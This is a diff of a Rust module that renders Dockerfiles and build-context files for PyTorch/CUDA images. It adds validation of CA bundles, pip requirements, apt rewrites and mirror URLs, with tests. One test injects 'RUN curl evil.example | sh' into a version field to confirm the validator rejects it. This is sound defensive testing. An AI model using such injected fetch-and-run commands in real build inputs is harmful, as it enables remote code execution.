@@ -1,20 +1,22 @@
-//! Rendering: image spec → Dockerfile text through minijinja. Pure: the templates are embedded
-//! (or handed in as text by the caller when a matrix overrides them), output goes back as values.
+//! Rendering: image spec → the files of its build context (the Dockerfile, the matrix's CA bundle,
+//! and for devel images whose toolkit comes from PyPI the libcuda stub script) through minijinja.
+//! Pure: the templates are embedded (or handed in as text by the caller when a matrix overrides
+//! them), the CA bundle is handed in as text, output goes back as values. The image's lock is not
+//! rendered: `imagegen lock` writes it beside these files.
 //!
 //! Templates run with `UndefinedBehavior::Strict`, so a typo in a template is an error, not an
 //! empty string. Every value placed in a template was validated by `matrix` or comes from the
 //! knowledge, whose versions are digits and dots only; `check_values` checks again right here
 //! before rendering, since a Dockerfile is code.
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 
 use minijinja::{context, Environment, UndefinedBehavior};
 
 use crate::model::axes::Variant;
-use crate::model::knowledge::wheel_suffix;
 use crate::model::matrix::{check_free_text, check_image_reference, Matrix};
 use crate::resolve::fingerprint::sha256_hex;
-use crate::resolve::image::ImageSpec;
+use crate::resolve::image::{ImageSpec, ToolkitSource};
 
 /// The embedded templates, by name.
 pub const EMBEDDED_TEMPLATES: &[(&str, &str)] = &[
@@ -28,10 +30,23 @@ pub const EMBEDDED_TEMPLATES: &[(&str, &str)] = &[
     ),
     ("header.j2", include_str!("../../templates/header.j2")),
     ("labels.j2", include_str!("../../templates/labels.j2")),
+    ("apt-mirrors.j2", include_str!("../../templates/apt-mirrors.j2")),
 ];
+
+/// The libcuda stub script devel images with `devel_toolkit: pypi` run (copied as it is).
+pub const MAKE_CUDA_STUB: &str = include_str!("../../templates/make-cuda-stub.sh");
+
+/// The file names of a build context beside the Dockerfile.
+pub const CA_BUNDLE_FILE: &str = "ca-bundle.crt";
+pub const CUDA_STUB_SCRIPT: &str = "make-cuda-stub.sh";
+
+/// The templates that render an image, one per variant.
+const VARIANT_TEMPLATES: &[&str] = &["runtime.Dockerfile.j2", "devel.Dockerfile.j2"];
 
 #[derive(Debug, thiserror::Error)]
 pub enum RenderError {
+    #[error("ca_bundle {path}: {message}")]
+    CaBundle { path: String, message: String },
     #[error("template {name}: {source:#}")]
     Template {
         name: String,
@@ -49,6 +64,8 @@ pub enum RenderError {
 #[derive(Debug, Clone)]
 pub struct Templates {
     sources: BTreeMap<String, String>,
+    /// Names of templates the matrix replaced.
+    overridden: BTreeSet<String>,
 }
 
 impl Templates {
@@ -58,12 +75,22 @@ impl Templates {
                 .iter()
                 .map(|(name, text)| (name.to_string(), text.to_string()))
                 .collect(),
+            overridden: BTreeSet::new(),
         }
+    }
+
+    /// Whether an embedded runtime or devel template is in use: they install from the image's
+    /// lock, so such a matrix locks its images.
+    pub fn embedded_variant_template_in_use(&self) -> bool {
+        VARIANT_TEMPLATES
+            .iter()
+            .any(|name| !self.overridden.contains(*name))
     }
 
     /// The embedded templates with `overrides` (name → text) laid over them.
     pub fn with_overrides(overrides: BTreeMap<String, String>) -> Templates {
         let mut templates = Self::embedded();
+        templates.overridden = overrides.keys().cloned().collect();
         templates.sources.extend(overrides);
         templates
     }
@@ -110,23 +137,92 @@ pub struct RenderedImage {
     pub files: BTreeMap<String, String>,
 }
 
+/// A file the matrix names whose contents go into every build context.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CaBundle {
+    /// Where it was read from, for messages.
+    pub path: String,
+    pub text: String,
+}
+
 /// Renders every image. Output is byte-identical for the same input.
 pub fn render_all(
     images: &[ImageSpec],
     matrix: &Matrix,
     templates: &Templates,
+    ca_bundle: Option<&CaBundle>,
 ) -> Result<Vec<RenderedImage>, RenderError> {
+    if let Some(bundle) = ca_bundle {
+        check_ca_bundle(&bundle.text).map_err(|message| RenderError::CaBundle {
+            path: bundle.path.clone(),
+            message,
+        })?;
+    }
     let environment = templates.environment()?;
     images
         .iter()
-        .map(|image| render_one(&environment, image, matrix))
+        .map(|image| render_one(&environment, image, matrix, ca_bundle))
         .collect()
+}
+
+/// A CA bundle is PEM certificates: at least one `CERTIFICATE` block and, outside the blocks,
+/// nothing but blank lines and comments (update-ca-certificates merges the file as it is).
+pub fn check_ca_bundle(text: &str) -> Result<(), String> {
+    const BEGIN: &str = "-----BEGIN CERTIFICATE-----";
+    const END: &str = "-----END CERTIFICATE-----";
+    if text.len() > 4 << 20 {
+        return Err(format!(
+            "{} bytes is more than a CA bundle holds (4 MiB at most)",
+            text.len()
+        ));
+    }
+    let mut inside = false;
+    let mut certificates = 0;
+    for (index, line) in text.lines().enumerate() {
+        let line = line.trim_end();
+        match (inside, line) {
+            (false, BEGIN) => inside = true,
+            (true, END) => {
+                inside = false;
+                certificates += 1;
+            }
+            (true, body) => {
+                if !body
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || "+/=".contains(c))
+                {
+                    return Err(format!(
+                        "line {}: not base64 inside a certificate",
+                        index + 1
+                    ));
+                }
+            }
+            (false, other) => {
+                if !(other.is_empty() || other.starts_with('#') || !other.contains("-----"))
+                    || other.chars().any(|c| c.is_control())
+                {
+                    return Err(format!(
+                        "line {}: {other:?} is not part of a PEM certificate (only CERTIFICATE blocks are installed)",
+                        index + 1
+                    ));
+                }
+            }
+        }
+    }
+    if inside {
+        return Err("the last certificate has no END line".into());
+    }
+    if certificates == 0 {
+        return Err("no `-----BEGIN CERTIFICATE-----` block: a CA bundle is PEM certificates".into());
+    }
+    Ok(())
 }
 
 fn render_one(
     environment: &Environment<'_>,
     image: &ImageSpec,
     matrix: &Matrix,
+    ca_bundle: Option<&CaBundle>,
 ) -> Result<RenderedImage, RenderError> {
     check_values(image)?;
     let template_name = match image.variant {
@@ -146,20 +242,12 @@ fn render_one(
         .next()
         .unwrap_or(&matrix.repository)
         .to_string();
-    let torchvision_pin = if image.torchvision.ends_with(".*") {
-        image.torchvision.clone()
-    } else {
-        format!("{}+{}", image.torchvision, wheel_suffix(&image.cuda))
-    };
     let text = template
         .render(context! {
             image => minijinja::value::Serde(image),
-            suffix => wheel_suffix(&image.cuda),
             cuda_package => image.cuda.replace('.', "-"),
             arch_list => image.archs.join(";"),
-            torchvision_pin => torchvision_pin,
-            pip_index => matrix.mirrors.pip_index.clone(),
-            apt_mirror => matrix.mirrors.apt.clone(),
+            ca_bundle => ca_bundle.map(|_| CA_BUNDLE_FILE),
             extra_labels => matrix.labels.clone(),
             title => title,
         })
@@ -169,6 +257,13 @@ fn render_one(
         })?;
     let mut files = BTreeMap::new();
     files.insert("Dockerfile".to_string(), normalize(&text));
+    // The runtime image installs the CA bundle; a devel image inherits the system store.
+    if let (Some(bundle), Variant::Runtime) = (ca_bundle, image.variant) {
+        files.insert(CA_BUNDLE_FILE.to_string(), bundle.text.clone());
+    }
+    if matches!(image.toolkit, Some(ToolkitSource::Pypi { .. })) {
+        files.insert(CUDA_STUB_SCRIPT.to_string(), MAKE_CUDA_STUB.to_string());
+    }
     Ok(RenderedImage {
         name: image.name.clone(),
         files,
@@ -238,20 +333,56 @@ pub fn check_values(image: &ImageSpec) -> Result<(), RenderError> {
     if let Some(nccl) = &image.nccl {
         version_like("nccl", nccl)?;
     }
+    for requirement in &image.requirements {
+        // `torch==2.13.0+cu130`, `cuda-toolkit[nvcc,...]==13.0.*`, `ninja`.
+        let ok = !requirement.is_empty()
+            && requirement
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || ".*+-_=[],".contains(c));
+        if !ok {
+            return Err(unsafe_value(
+                "requirements",
+                format!("{requirement:?} is not a plain requirement"),
+            ));
+        }
+    }
+    for rewrite in &image.apt_rewrites {
+        if rewrite
+            .expression
+            .chars()
+            .any(|c| c.is_control() || c == '\'' || c.is_whitespace())
+        {
+            return Err(unsafe_value(
+                "apt_rewrites",
+                format!("{:?} cannot be quoted for sed", rewrite.expression),
+            ));
+        }
+    }
+    if let Some(ToolkitSource::Pypi { folder }) = &image.toolkit {
+        if folder.is_empty() || !folder.chars().all(|c| c.is_ascii_alphanumeric()) {
+            return Err(unsafe_value(
+                "toolkit",
+                format!("{folder:?} is not a folder name"),
+            ));
+        }
+    }
     check_image_reference(&image.base_image).map_err(|m| unsafe_value("base_image", m))?;
     check_image_reference(&image.repository).map_err(|m| unsafe_value("repository", m))?;
     check_free_text("require_cuda", &image.require_cuda)
         .map_err(|m| unsafe_value("require_cuda", m))?;
-    if !image.wheel_index.starts_with("http")
-        || image
-            .wheel_index
-            .chars()
-            .any(|c| c.is_whitespace() || "\"'\\$`;&|".contains(c))
-    {
-        return Err(unsafe_value(
-            "wheel_index",
-            format!("{:?} is not a plain URL", image.wheel_index),
-        ));
+    for (field, url) in [
+        ("wheel_index", Some(&image.wheel_index)),
+        ("pip.index_url", Some(&image.pip.index_url)),
+        ("pip.extra_index_url", image.pip.extra_index_url.as_ref()),
+    ] {
+        let Some(url) = url else { continue };
+        if !url.starts_with("http")
+            || url
+                .chars()
+                .any(|c| c.is_whitespace() || "\"'\\$`;&|".contains(c))
+        {
+            return Err(unsafe_value(field, format!("{url:?} is not a plain URL")));
+        }
     }
     Ok(())
 }
@@ -281,25 +412,50 @@ mod tests {
         }
     }
 
+    /// Renders the matrix `extra` and returns each image's files, by image name.
+    fn render(extra: &str, ca: Option<&CaBundle>) -> BTreeMap<String, BTreeMap<String, String>> {
+        let (images, matrix) = specs(extra);
+        render_all(&images, &matrix, &Templates::embedded(), ca)
+            .unwrap()
+            .into_iter()
+            .map(|image| (image.name, image.files))
+            .collect()
+    }
+
+    const CERTIFICATE: &str = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2=\n-----END CERTIFICATE-----\n";
+
     #[test]
-    fn rendering_is_deterministic_and_pins_versions() {
+    fn rendering_is_deterministic_and_installs_the_lock() {
         let (images, matrix) = specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n");
-        let first = render_all(&images, &matrix, &Templates::embedded()).unwrap();
-        let second = render_all(&images, &matrix, &Templates::embedded()).unwrap();
+        let first = render_all(&images, &matrix, &Templates::embedded(), None).unwrap();
+        let second = render_all(&images, &matrix, &Templates::embedded(), None).unwrap();
         assert_eq!(first, second);
         let runtime = &first[0].files["Dockerfile"];
-        assert!(runtime.contains("\"torch==2.7.1+cu126\""), "{runtime}");
-        assert!(runtime.contains("\"torchvision==0.22.1+cu126\""));
-        assert!(runtime.contains("--index-url https://download.pytorch.org/whl/cu126"));
+        assert!(
+            runtime.starts_with("# GENERATED by imagegen"),
+            "no `# syntax` line: BuildKit would pull a floating frontend: {runtime}"
+        );
+        assert!(!runtime.contains("# syntax"));
+        assert!(runtime.contains("COPY requirements.lock /opt/imagegen/requirements.lock"));
+        assert!(runtime.contains(
+            "pip install --no-deps --require-hashes --only-binary=:all: \\\n      --index-url https://download.pytorch.org/whl/cu126 \\\n      -r /opt/imagegen/requirements.lock \\\n && pip check"
+        ), "{runtime}");
+        assert!(runtime.contains("torch==2.7.1+cu126 torchvision==0.22.1+cu126 torchaudio==2.7.1+cu126"));
+        assert!(runtime.contains("      g++ \\\n"), "torch.compile on CPU needs g++");
+        assert!(runtime.contains("sysconfig.get_path(\"purelib\")"), "site-packages is derived");
+        assert!(!runtime.contains("/opt/venv/lib/python3"), "no hard-coded Python path");
+        assert!(runtime.contains("v == \"3.12\""), "the base's python3 is checked");
         assert!(runtime
             .contains("NVIDIA_REQUIRE_CUDA=\"cuda>=12.6 brand=unknown,driver>=470,driver<471"));
         assert!(runtime.contains("imagegen.driver.min=\"560.35.05\""));
+        assert!(runtime.contains("imagegen.torchvision=\"0.22.1\""));
+        assert!(runtime.contains("imagegen.torchaudio=\"2.7.1\""));
         assert!(runtime.contains("COPY gpu-selftest /usr/local/bin/gpu-selftest"));
-        assert!(runtime.starts_with("# syntax=docker/dockerfile:1\n# GENERATED by imagegen"));
         assert!(
             !runtime.contains("nvcc"),
             "runtime carries no CUDA compiler"
         );
+        assert_eq!(first[0].files.keys().collect::<Vec<_>>(), ["Dockerfile"]);
         let devel = &first[1].files["Dockerfile"];
         assert!(
             devel.contains("FROM ghcr.io/acme/pytorch:2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04")
@@ -309,16 +465,180 @@ mod tests {
     }
 
     #[test]
-    fn torchvision_series_pins_use_a_wildcard() {
-        let (images, matrix) =
-            specs("torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
-        let text =
-            &render_all(&images, &matrix, &Templates::embedded()).unwrap()[0].files["Dockerfile"];
-        assert!(text.contains("\"torchvision==0.28.*\""), "{text}");
-        assert!(
-            !text.contains("torchaudio"),
-            "no verified torchaudio for 2.13"
+    fn companions_are_exact_and_the_nccl_label_is_set() {
+        let text = &render(
+            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n",
+            None,
+        )["2.13.0-cuda13.0-cudnn9-runtime-ubuntu24.04"]["Dockerfile"];
+        assert!(text.contains("imagegen.torchvision=\"0.28.0\""), "{text}");
+        assert!(text.contains("imagegen.torchaudio=\"2.11.0\""), "{text}");
+        assert!(text.contains("imagegen.nccl=\"2.29.7\""), "{text}");
+        assert!(text.contains("IMAGEGEN_NCCL=2.29.7"), "{text}");
+        assert!(!text.contains(".*\""), "no glob in a pin or label: {text}");
+    }
+
+    #[test]
+    fn torch_from_a_plain_index_installs_the_release_without_suffix() {
+        let images = render(
+            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nvariants: [runtime]\ntorch_wheels: pypi\nmirrors:\n  pip_index: https://proxy.example.com/pypi/simple\n",
+            None,
         );
+        let text = &images["2.13.0-cuda13.0-cudnn9-runtime-ubuntu24.04"]["Dockerfile"];
+        assert!(
+            text.contains("--index-url https://proxy.example.com/pypi/simple \\\n      -r /opt/imagegen/requirements.lock"),
+            "{text}"
+        );
+        assert!(!text.contains("download.pytorch.org"), "{text}");
+        assert!(text.contains("lock: torch==2.13.0 torchvision==0.28.0 torchaudio==2.11.0 and"), "{text}");
+    }
+
+    #[test]
+    fn mirrors_cover_every_apt_host_on_both_architectures() {
+        let mirrors = "mirrors:\n  apt: http://m.example.com/ubuntu\n  apt_ports: http://m.example.com/ubuntu-ports\n  nvidia_apt: https://m.example.com/nvidia\n  pip_index: https://m.example.com/pypi/simple\n  torch_index: https://m.example.com/torch/whl\n  base_registry: m.example.com/hub\n";
+        let images = render(
+            &format!("torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nplatforms: [linux/amd64, linux/arm64]\n{mirrors}"),
+            None,
+        );
+        let names: Vec<&String> = images.keys().collect();
+        assert_eq!(names.len(), 4, "{names:?}");
+        for (name, files) in &images {
+            let text = &files["Dockerfile"];
+            let (own, other) = if name.ends_with("-amd64") {
+                ("archive\\.ubuntu\\.com/ubuntu/?([[:space:]]|$)#http://m.example.com/ubuntu/", "ports\\.ubuntu")
+            } else {
+                ("ports\\.ubuntu\\.com/ubuntu-ports/?([[:space:]]|$)#http://m.example.com/ubuntu-ports/", "archive\\.ubuntu")
+            };
+            // Runtime and devel both rewrite their apt sources before their first apt-get.
+            let rewrite = text.find("-exec sed -i -E").unwrap_or_else(|| panic!("{name}: {text}"));
+            assert!(rewrite < text.find("apt-get update").unwrap(), "{name}");
+            assert!(text.contains(own), "{name}: {text}");
+            assert!(!text.contains(other), "{name}: {text}");
+            assert!(
+                text.contains("-e 's#https?://developer\\.download\\.nvidia\\.com/compute/cuda/repos#https://m.example.com/nvidia#g'"),
+                "{name}: {text}"
+            );
+            assert!(
+                text.contains("--index-url https://m.example.com/torch/whl/cu130 \\\n      --extra-index-url https://m.example.com/pypi/simple"),
+                "{name}: {text}"
+            );
+            if name.contains("-runtime-") {
+                assert!(text.contains("FROM m.example.com/hub/nvidia/cuda:13.0.0-base-ubuntu24.04"), "{name}");
+            } else {
+                assert!(text.contains("FROM ghcr.io/acme/pytorch:2.13.0-cuda13.0-cudnn9-runtime-ubuntu24.04-"), "{name}");
+            }
+            assert!(!text.contains("security.ubuntu.com/ubuntu#") || name.ends_with("-amd64"));
+        }
+    }
+
+    #[test]
+    fn a_debian_base_uses_debian_mirrors_and_the_pypi_toolkit() {
+        let images = render(
+            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [debian12]\ntorch_wheels: pypi\ndevel_toolkit: pypi\nbase_images:\n  runtime: {debian12: \"local/bookworm:{cuda}\"}\nmirrors:\n  debian: http://m.example.com/debian\n  debian_security: http://m.example.com/debian-security\n",
+            None,
+        );
+        let runtime = &images["2.13.0-cuda13.0-cudnn9-runtime-debian12"];
+        let text = &runtime["Dockerfile"];
+        assert!(text.contains("FROM local/bookworm:13.0\n"), "{text}");
+        assert!(text.contains("deb\\.debian\\.org/debian-security/?([[:space:]]|$)#http://m.example.com/debian-security/"), "{text}");
+        assert!(text.contains("deb\\.debian\\.org/debian/?([[:space:]]|$)#http://m.example.com/debian/"), "{text}");
+        assert!(!text.contains("nvidia\\.com"), "Debian bases have no NVIDIA repository: {text}");
+        assert!(text.contains("v == \"3.11\""), "{text}");
+        let devel = &images["2.13.0-cuda13.0-cudnn9-devel-debian12"];
+        let text = &devel["Dockerfile"];
+        assert_eq!(devel[CUDA_STUB_SCRIPT], MAKE_CUDA_STUB);
+        assert!(text.contains("COPY make-cuda-stub.sh /usr/local/lib/imagegen/make-cuda-stub.sh"), "{text}");
+        assert!(text.contains("ln -s \"$site/nvidia/cu13\" /usr/local/cuda"), "{text}");
+        assert!(text.contains("bash /usr/local/lib/imagegen/make-cuda-stub.sh /usr/local/cuda /usr/local/cuda/lib64/stubs"), "{text}");
+        assert!(text.contains("cuda-toolkit[cccl,crt,cudart,culibos,nvcc,nvvm,profiler]==13.0.* ninja"), "{text}");
+        assert!(!text.contains("cuda-nvcc-13-0"), "nothing from NVIDIA's apt repository: {text}");
+        assert!(text.contains("LIBRARY_PATH=/usr/local/cuda/lib64/stubs:"), "{text}");
+        assert!(text.contains("CPATH=/usr/local/cuda/include:/opt/imagegen/nvidia/nccl/include:/opt/imagegen/nvidia/cudnn/include"), "{text}");
+    }
+
+    #[test]
+    fn the_apt_toolkit_installs_stubs_and_puts_wheel_headers_on_the_include_path() {
+        let images = render(
+            "torch: [\"2.13\"]\ncuda: [\"12.6\", \"13.0\"]\nos: [ubuntu22.04]\n",
+            None,
+        );
+        for (cuda, package) in [("12.6", "12-6"), ("13.0", "13-0")] {
+            let devel = &images[&format!("2.13.0-cuda{cuda}-cudnn9-devel-ubuntu22.04")];
+            let text = &devel["Dockerfile"];
+            for wanted in [
+                format!("cuda-driver-dev-{package}"),
+                format!("cuda-nvcc-{package}"),
+                format!("cuda-cudart-dev-{package}"),
+                "LIBRARY_PATH=/usr/local/cuda/lib64/stubs:/usr/local/cuda/lib64:/opt/imagegen/nvidia/nccl/lib:/opt/imagegen/nvidia/cudnn/lib".into(),
+                "CPATH=/usr/local/cuda/include:/opt/imagegen/nvidia/nccl/include:/opt/imagegen/nvidia/cudnn/include".into(),
+                "test -e /usr/local/cuda/lib64/stubs/libcuda.so".into(),
+                "-r /opt/imagegen/requirements.lock".into(),
+            ] {
+                assert!(text.contains(&wanted), "{wanted}: {text}");
+            }
+            assert!(!devel.contains_key(CUDA_STUB_SCRIPT));
+            assert!(!text.contains("make-cuda-stub"), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_ca_bundle_is_copied_and_installed_into_the_system_store() {
+        let ca = CaBundle {
+            path: "company-ca.pem".into(),
+            text: CERTIFICATE.into(),
+        };
+        let images = render(
+            "torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n",
+            Some(&ca),
+        );
+        for (name, files) in &images {
+            let text = &files["Dockerfile"];
+            assert!(
+                text.contains("--cert /etc/ssl/certs/ca-certificates.crt"),
+                "{text}"
+            );
+            assert_eq!(files.get(CA_BUNDLE_FILE).is_some(), name.contains("-runtime-"));
+            if name.contains("-runtime-") {
+                assert_eq!(files[CA_BUNDLE_FILE], CERTIFICATE);
+                let copy = text
+                    .find("COPY ca-bundle.crt /usr/local/share/ca-certificates/imagegen-ca-bundle.crt")
+                    .expect(text);
+                assert!(copy < text.find("apt-get update").unwrap());
+                assert!(text.contains("{ ! command -v update-ca-certificates >/dev/null || update-ca-certificates; }"));
+                assert!(text.contains(" && update-ca-certificates \\\n && rm -rf /var/lib/apt/lists/*"));
+            }
+        }
+        let (images, matrix) = specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n");
+        let key = CaBundle {
+            path: "key.pem".into(),
+            text: format!("{CERTIFICATE}-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"),
+        };
+        let error = render_all(&images, &matrix, &Templates::embedded(), Some(&key))
+            .unwrap_err()
+            .to_string();
+        assert!(error.starts_with("ca_bundle key.pem: line 4:"), "{error}");
+    }
+
+    #[test]
+    fn ca_bundles_are_pem_certificates_only() {
+        assert!(check_ca_bundle(CERTIFICATE).is_ok());
+        assert!(check_ca_bundle(&format!("# our proxy\n\n{CERTIFICATE}{CERTIFICATE}")).is_ok());
+        assert!(check_ca_bundle("").unwrap_err().contains("no `-----BEGIN CERTIFICATE-----`"));
+        assert!(check_ca_bundle("-----BEGIN CERTIFICATE-----\nAAAA\n")
+            .unwrap_err()
+            .contains("no END line"));
+        assert!(check_ca_bundle("-----BEGIN CERTIFICATE-----\nA\"AA\n-----END CERTIFICATE-----\n")
+            .unwrap_err()
+            .contains("not base64"));
+    }
+
+    #[test]
+    fn the_embedded_templates_decide_that_images_are_locked() {
+        assert!(Templates::embedded().embedded_variant_template_in_use());
+        let mut overrides = BTreeMap::new();
+        overrides.insert("runtime.Dockerfile.j2".to_string(), "FROM x\n".to_string());
+        assert!(Templates::with_overrides(overrides.clone()).embedded_variant_template_in_use());
+        overrides.insert("devel.Dockerfile.j2".to_string(), "FROM x\n".to_string());
+        assert!(!Templates::with_overrides(overrides).embedded_variant_template_in_use());
     }
 
     #[test]
@@ -330,7 +650,7 @@ mod tests {
             "runtime.Dockerfile.j2".to_string(),
             "FROM {{ image.base_imag }}\n".to_string(),
         );
-        let error = render_all(&images, &matrix, &Templates::with_overrides(overrides))
+        let error = render_all(&images, &matrix, &Templates::with_overrides(overrides), None)
             .unwrap_err()
             .to_string();
         assert!(error.contains("undefined"), "{error}");
@@ -341,7 +661,7 @@ mod tests {
         let (mut images, matrix) =
             specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
         images[0].torch = "2.7.0\nRUN curl evil.example | sh".into();
-        let error = render_all(&images, &matrix, &Templates::embedded())
+        let error = render_all(&images, &matrix, &Templates::embedded(), None)
             .unwrap_err()
             .to_string();
         assert!(
